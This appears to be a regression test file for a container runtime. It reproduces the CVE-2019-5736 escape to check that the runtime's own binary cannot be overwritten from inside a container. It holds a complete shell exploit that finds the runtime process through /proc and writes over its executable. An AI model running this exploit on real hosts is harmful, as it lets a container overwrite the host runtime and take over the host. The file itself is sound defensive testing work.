import { execFileSync } from "node:child_process";
import { chmodSync, copyFileSync, existsSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Arena } from "../arena.ts";
import { eventually } from "../eventually.ts";
import { OrdinaryUser } from "../ordinary-user.ts";
import { OwnHost } from "../own-host.ts";
import { testAttack } from "./test-attack.ts";

/*
 * CVE-2019-5736. The image's program is a script that names its interpreter as /proc/self/exe, which is the runtime. A
 * process that is in the container already opens the file of that runtime, and writes to it as soon as nobody runs it.
 */

/** Makes the runtime wait, inside of the container, for somebody to read its log. */
const program = "#!/proc/self/exe --log=/stop\n";

const attacker = `
until [ "$victim" ]; do
  for process in /proc/[0-9]*; do
    grep -qs 'log=/sto[p]' $process/cmdline && victim=$process
  done
done
exec 3<$victim/exe
echo >/opened
: </stop
for try in $(seq 50); do
  (echo overwritten >/proc/self/fd/3) 2>/dev/null && break
  sleep 0.02
done
echo >/tried
exec sleep 1000
`;

const weakened = { "runtime/seal/run-sealed.ts": "tests/runtime/weakened/run-sealed.ts" };

/** `user`: who calls the runtime, if not root. */
async function overwrite(arena: Arena, user?: OrdinaryUser): Promise<boolean> {
  const { config, folder } = arena.bundle;
  const original = arena.runtime;
  const runtime = join(arena.folder, "cloison");
  copyFileSync(original, runtime);
  const image = join(arena.rootfs, "program");
  writeFileSync(image, program);
  chmodSync(image, 0o755);
  execFileSync("mkfifo", [join(arena.rootfs, "stop")]);
  const mappings = user && [{ containerID: 0, hostID: user.id, size: 1 }];
  arena.bundle.change({
    process: { ...config.process, args: ["/bin/sh", "-c", attacker] },
    ...(mappings && {
      linux: {
        namespaces: ["pid", "mount", "ipc", "uts", "user"].map((type) => ({ type })),
        uidMappings: mappings,
        gidMappings: mappings,
      },
    }),
  });
  for (const path of [arena.folder, folder]) user?.give(path);
  arena.run(["run", "--detach", "--bundle", folder, "c1"]);
  arena.runtime = runtime;
  arena.run(["exec", "c1", "/program"]);
  arena.runtime = original;
  await eventually("the attacker is through", () => existsSync(join(arena.rootfs, "tried")));
  return readFileSync(runtime, "latin1").startsWith("overwritten");
}

testAttack("the runtime's file cannot be overwritten through exec", {
  weakened,
  attack: (arena) => overwrite(arena),
});

testAttack("nor can that of an ordinary user, who cannot make a read-only mount of it", {
  weakened,
  async attack(arena) {
    const host = await OwnHost.open(tmpdir());
    try {
      const user = new OrdinaryUser(host, arena.folder);
      arena.prefix = user.prefix;
      const isWritten = await overwrite(arena, user);
      arena.run(["delete", "--force", "c1"]);
      return isWritten;
    } finally {
      arena.prefix = [];
      await host.close();
    }
  },
});
